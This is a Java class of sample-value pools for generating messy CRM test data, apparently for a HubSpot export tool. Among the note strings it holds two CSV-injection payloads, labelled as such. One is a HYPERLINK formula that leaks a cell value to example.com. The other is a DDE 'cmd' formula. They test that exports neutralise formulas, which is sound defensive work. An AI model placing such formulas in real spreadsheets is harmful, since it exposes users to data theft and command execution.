package dev.hubspotextract.sandbox;

import java.util.ArrayList;
import java.util.List;

/**
 * The raw material of generated values, with the mess real portals have: commas, quotes, newlines,
 * non-Latin text, emoji, HTML, empty strings and the odd value over 10 KB.
 */
final class ValuePools {
  private ValuePools() {}

  static final String[] FIRST_NAMES = {
    "Maria",
    "José",
    "Ana",
    "Liam",
    "Olivia",
    "Noah",
    "Иван",
    "Ольга",
    "太郎",
    "花子",
    "Γιώργος",
    "Ελένη",
    "Zoë",
    "François",
    "Søren",
    "Łukasz",
    "محمد",
    "Priya",
    "Chloé",
    "Mary-Kate",
    "Jean Luc",
    "Ngọc",
    "민준",
    "Sven",
    "Ada",
    "Grace",
    "Alan",
    "Linus",
    "Björk",
    "Émile"
  };

  static final String[] LAST_NAMES = {
    "Smith",
    "García",
    "Müller",
    "O'Connor",
    "山田",
    "Παπαδόπουλος",
    "Nguyễn",
    "Kowalski",
    "D'Angelo",
    "Smith, Jr.",
    "van der Berg",
    "Иванова",
    "Lovelace",
    "Hopper",
    "Turing",
    "Torvalds",
    "\"The Rock\" Johnson",
    "Øvergård",
    "Dubois",
    "Kim",
    "Okafor",
    "Silva",
    "Rossi",
    "Novák",
    "Yılmaz"
  };

  static final String[] COMPANIES = {
    "Acme, Inc.",
    "Globex Corporation",
    "Initech",
    "Umbrella \"Bio\" Ltd",
    "株式会社サンプル",
    "Ωmega Systems",
    "Müller & Söhne GmbH",
    "Stark Industries",
    "Wayne Enterprises",
    "Soylent, Corp.",
    "Hooli",
    "Vandelay Industries",
    "Pied Piper",
    "Blue Sun 🌞",
    "Tyrell Corp",
    "Cyberdyne",
    "Oceanic Airlines",
    "Dunder Mifflin",
    "Aperture Science",
    "Black Mesa"
  };

  static final String[] DOMAINS = {
    "acme.example",
    "globex.example",
    "initech.example",
    "umbrella.example",
    "sample.example.jp",
    "omega.example",
    "mueller-soehne.example.de",
    "stark.example",
    "wayne.example",
    "soylent.example"
  };

  static final String[] JOB_TITLES = {
    "CEO",
    "CTO",
    "VP, Sales",
    "Head of \"Growth\"",
    "Engineer",
    "Data Analyst",
    "営業部長",
    "Διευθυντής",
    "Office Manager",
    "",
    "Marketing Lead / EMEA",
    "Chief Happiness Officer 😊"
  };

  static final String[] CITIES = {
    "Berlin",
    "São Paulo",
    "Tōkyō",
    "東京",
    "Αθήνα",
    "Москва",
    "New York, NY",
    "Zürich",
    "Kraków",
    "Reykjavík",
    "Dublin",
    "Cape Town",
    ""
  };

  static final String[] COUNTRIES = {
    "Germany",
    "Brazil",
    "Japan",
    "Greece",
    "United States",
    "Switzerland",
    "Poland",
    "Iceland",
    "Ireland",
    "South Africa",
    "Côte d'Ivoire"
  };

  static final String[] STATES = {"CA", "NY", "TX", "Bavaria", "Île-de-France", "", "Ontario"};

  static final String[] STREETS = {
    "1 Main St",
    "221B Baker Street",
    "Unter den Linden 77",
    "1600 Amphitheatre Pkwy, Bldg 40",
    "Apt 5, \"The Old Mill\"",
    "東京都千代田区1-1",
    "Line one\nLine two"
  };

  static final String[] SHORT_TEXT = {
    "Met at the conference",
    "Prefers email, not phone",
    "Said \"maybe next quarter\"",
    "",
    "Follow up: pricing, terms",
    "日本語のメモ",
    "Σημείωση στα ελληνικά",
    "Emoji test 🎉🚀",
    "Tab\tseparated",
    "Semicolon; inside",
    "Back\\slash",
    "50% discount?",
    "<b>not html</b>",
    "Ends with space ",
    " starts with space",
    // what a spreadsheet would run as a formula (OWASP's CSV injection), and the quote that marks
    // text
    "=HYPERLINK(\"https://example.com/?leak=\"&A1,\"Click\")",
    "+1 555 0100, call back",
    "-2+3 people interested",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tindented note",
    "\rcarriage return first",
    "'quoted on purpose"
  };

  static final String[] SUBJECTS = {
    "Renewal, Q3",
    "Intro call",
    "Re: \"Pricing\" question",
    "Onboarding 🚀",
    "見積もりの件",
    "Συνάντηση",
    "Contract\nsigned",
    "Follow-up",
    "Demo request",
    "Invoice #1234"
  };

  private static final String LONG_PARAGRAPH =
      "This is a long free-text value, the kind support agents paste from e-mails, with commas, \"quotes\", "
          + "non-Latin text (日本語, Ελληνικά, русский) and emoji 🎉, repeated to exceed ten kilobytes.\n";

  /** Free text with line breaks; one entry in 64 is longer than 10 KB. */
  static final String[] LONG_TEXT = longText();

  static final String[] HTML = {
    "<p>Called <b>Ana</b> about the renewal.</p>",
    "<div><p>Notes from the meeting:</p><ul><li>pricing, \"enterprise\" tier</li><li>timeline: Q3</li></ul></div>",
    "<p>日本語の本文 &amp; <a href=\"https://example.com?a=1&amp;b=2\">link</a></p>",
    "<p>Line one<br>Line two</p>\n<p>Paragraph two, with a comma</p>",
    "<p>Emoji 🎉 and Ελληνικά</p>",
    "",
    "<table><tr><td>a,b</td><td>\"c\"</td></tr></table>",
    "<p>" + LONG_PARAGRAPH.repeat(60) + "</p>"
  };

  private static String[] longText() {
    List<String> values = new ArrayList<>();
    for (int i = 0; i < 63; i++) {
      String a = SHORT_TEXT[i % SHORT_TEXT.length];
      String b = SUBJECTS[(i * 7) % SUBJECTS.length];
      values.add(i % 3 == 0 ? a + "\n" + b : a + ", " + b);
    }
    values.add(LONG_PARAGRAPH.repeat(70));
    return values.toArray(String[]::new);
  }
}
